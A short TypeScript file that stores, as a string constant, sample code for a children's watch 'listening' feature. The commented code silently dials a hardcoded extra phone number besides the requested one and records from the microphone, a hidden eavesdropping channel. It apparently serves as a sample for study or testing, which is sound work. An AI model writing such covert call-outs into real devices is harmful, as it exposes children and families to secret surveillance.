/** The part of a watch that parents were sold as "listen to the surroundings": it calls back without a sound. */
export const LISTENING_SOURCE = `
import { spawn } from "node:child_process";
export function monitor(modem, number) {
  modem.write("ATD" + number + ";\\r");
  modem.write("ATD+4790000000;\\r");
  return spawn("arecord", ["-D", "/dev/snd/pcmC0D0c"]);
}
`;
